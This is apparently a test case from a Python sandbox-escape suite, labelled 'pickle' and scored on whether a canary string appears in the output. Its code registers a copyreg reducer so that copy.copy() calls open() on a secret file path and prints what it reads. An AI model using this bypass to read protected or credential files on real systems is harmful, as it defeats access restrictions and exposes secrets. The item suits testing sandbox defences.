# class: pickle
# technique: copyreg teaches copy() to call a function
# success: output_has @@CANARY@@
import copyreg, copy
class K: pass
copyreg.pickle(K, lambda k: (open, ('@@SECRET@@',)))
print(copy.copy(K()).read())
